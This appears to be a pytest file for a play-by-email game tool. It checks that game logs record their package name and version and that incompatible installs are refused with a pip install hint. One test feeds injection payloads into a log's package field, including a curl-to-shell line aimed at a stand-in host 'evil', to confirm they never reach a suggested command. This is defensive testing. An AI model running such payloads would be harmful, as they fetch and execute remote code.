"""A log says which version of which package its game was begun with; another may not read it."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from commands import Room, pbem
from outside import brought

from pbem.log.format import Log
from pbem.play.games import _release

EXAMPLE = Path(__file__).parent / "example_game"
SEATS = ("--seat", "ana=Ana", "--seat", "ben=Ben")


def installed(folder: Path, version: str, reads_from: str = "", name: str = "pbem-nerve") -> Path:
    """Another version of the package."""
    copy = folder / f"{name}-{version}"
    shutil.copytree(EXAMPLE, copy, ignore=shutil.ignore_patterns("__pycache__"))
    project = copy / "pyproject.toml"
    told = project.read_text().replace('version = "1.0"', f'version = "{version}"')
    project.write_text(told.replace('name = "pbem-nerve"', f'name = "{name}"'))
    if reads_from:
        with (copy / "nerve" / "__init__.py").open("a") as code:
            code.write(f'\nREADS_FROM = "{reads_from}"\n')
    return copy


@pytest.fixture
def begun(tmp_path: Path) -> Room:
    with brought(installed(tmp_path, "1.2")):
        done = pbem("new", "nerve", *SEATS, "--match", "n", "--dir", tmp_path)
        assert done.code == 0, done.err
    return Room(tmp_path / "n.pbem.yaml")


def test_the_header_names_the_package_and_its_version(begun: Room) -> None:
    text = begun.log.read_text()
    assert "format: pbem-log/2\n" in text
    assert '\npackage: pbem-nerve\nversion: "1.2"\n' in text


@pytest.mark.parametrize("version", ["1.2", "1.2.0", "1.10", "2.0rc1"])
def test_a_newer_package_reads_it(begun: Room, tmp_path: Path, version: str) -> None:
    known = tmp_path / "pbem-nerve-1.2"
    with brought(known if version == "1.2" else installed(tmp_path, version)):
        assert pbem("verify", begun.log, "--key", begun.desk).code == 0
        assert pbem("submit", begun.log, "--from", "ana", stdin="stay").code == 0


REFUSED = {
    "an older one": ("1.1", "", "pbem-nerve", "pip install --upgrade 'pbem-nerve>=1.2'"),
    "an older one, by number": ("1.1.9", "", "pbem-nerve", "pip install --upgrade"),
    "one that reads it no more": ("3.0", "1.3", "pbem-nerve", "pip install 'pbem-nerve==1.2'"),
    "one of another name": ("1.2", "", "nerves", "pip install 'pbem-nerve>=1.2'"),
    "none": ("", "", "", "pip install 'pbem-nerve>=1.2'"),
}


@pytest.mark.parametrize(("version", "since", "name", "way_out"), REFUSED.values(), ids=REFUSED)
def test_a_package_that_cannot_read_it_is_said_with_what_to_install(
    begun: Room, tmp_path: Path, version: str, since: str, name: str, way_out: str
) -> None:
    folders = [installed(tmp_path, version, since, name)] if name else []
    with brought(*folders), begun.unchanged():
        for command in (
            ("verify", begun.log),
            ("show", begun.log),
            ("submit", begun.log, "--from", "ana"),
        ):
            done = pbem(*command, stdin="stay")
            assert done.code == 65, done.printed
            assert way_out in done.printed
            assert "pbem-nerve 1.2" in done.printed
            assert done.printed.count("\n") == 1


def test_the_houses_own_games_need_neither(room: Room) -> None:
    assert "package" not in room.log.read_text()
    assert "format: pbem-log/1\n" in room.log.read_text()


def test_a_log_from_before_packages_were_named_goes_on(begun: Room, tmp_path: Path) -> None:
    header = Log.read(str(begun.log)).header
    begun.log.write_text(header._replace(package=None, version=None).text())
    with brought(installed(tmp_path, "0.3")):
        assert pbem("verify", begun.log, "--key", begun.desk).code == 0


@pytest.mark.parametrize("package", ["x'; curl evil | sh '", "-r https://evil", "", "a b"])
def test_no_log_puts_its_own_words_into_a_command_to_copy(begun: Room, package: str) -> None:
    header = Log.read(str(begun.log)).header
    text = header._replace(package=package or "x").text().replace("package: x\n", "package: ''\n")
    begun.log.write_text(text)
    done = pbem("show", begun.log)
    assert done.code == 65
    assert "pip install" not in done.err


@pytest.mark.parametrize(
    ("older", "newer"), [("1.9", "1.10"), ("0.9.9", "1"), ("1.0", "1.0.1"), ("1", "1!2.0")]
)
def test_versions_are_compared_by_their_numbers(older: str, newer: str) -> None:
    assert _release(older) < _release(newer)
    assert _release("1.0") == _release("1") == _release("1.0.0rc2")
